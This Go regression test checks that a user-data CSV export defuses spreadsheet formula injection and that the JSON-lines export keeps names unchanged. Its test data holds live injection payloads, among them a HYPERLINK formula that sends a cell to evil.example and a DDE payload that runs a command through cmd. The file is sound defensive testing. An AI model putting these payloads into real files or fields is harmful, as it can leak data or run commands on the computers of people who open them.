package handlers

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// The payloads an outside probe used to reach an admin's spreadsheet as live formulas (issue 20).
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?d="&B2,"x")`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1)`,
}

func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	a := newAPI(t)
	o := a.loopNewOrg("formulas")
	v := o.value("Attentive")
	o.gesture(v.Id, "Greet")

	// The first name through the admin form, the others through a CSV import.
	var first UserCreated
	a.call("POST", "/v1/admin/users", o.admin.AccessToken, map[string]any{
		"name": formulaNames[0], "email": "p0@formulas.example", "role": "employee"}).expect(201).decode(&first)
	firstSession := a.enroll(first.EnrollmentCode)
	people := []*Session{&firstSession}
	var lines []string
	for i, name := range formulaNames[1:] {
		q := strings.ReplaceAll(name, `"`, `""`)
		lines = append(lines, `"`+q+`",p`+string(rune('1'+i))+`@formulas.example,employee,`)
	}
	var imported ImportResult
	a.importCSV(o.admin, "name,email,role,team\n"+strings.Join(lines, "\n")+"\n").expect(200).decode(&imported)
	if len(imported.Created) != 3 {
		t.Fatalf("import %+v", imported)
	}
	for _, c := range imported.Created {
		s := a.enroll(*c.EnrollmentCode)
		people = append(people, &s)
	}
	for _, s := range people {
		a.loopDoToday(s, "done")
	}
	day := testNow.Format("2006-01-02")

	t.Run("every CSV cell starting with = + - @ tab or CR reads as text", func(t *testing.T) {
		rows := loopCSV(t, o.export("from="+day+"&to="+day).expect(200))
		wantInertCSV(t, rows, formulaNames)
	})

	t.Run("JSON lines keep the names verbatim", func(t *testing.T) {
		res := o.export("from=" + day + "&to=" + day + "&format=jsonl").expect(200)
		got := map[string]bool{}
		sc := bufio.NewScanner(bytes.NewReader(res.Body))
		for sc.Scan() {
			var row ExportRow
			if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
				t.Fatalf("%v: %s", err, sc.Bytes())
			}
			got[row.UserName] = true
		}
		for _, name := range formulaNames {
			if !got[name] {
				t.Errorf("JSON lines lack %q verbatim: %s", name, res.Body)
			}
		}
	})
}

// wantInertCSV fails unless no cell of rows starts like a formula, and each name appears in
// the user_name column as an apostrophe and the name.
func wantInertCSV(t *testing.T, rows [][]string, names []string) {
	t.Helper()
	if len(rows) != len(names)+1 {
		t.Fatalf("%d rows, want a header and %d: %q", len(rows), len(names), rows)
	}
	seen := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts like a formula", cell)
			}
		}
		seen[row[2]] = true
	}
	for _, name := range names {
		if !seen["'"+name] {
			t.Errorf("no user_name cell %q in %v", "'"+name, seen)
		}
	}
}

func TestInertCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Eva Jansen", "Eva Jansen"},
		{"=1+1", "'=1+1"},
		{"+31 6 1234", "'+31 6 1234"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		{"2026-11-23T08:00:00Z", "2026-11-23T08:00:00Z"},
	} {
		if got := inertCell(c.in); got != c.want {
			t.Errorf("inertCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}
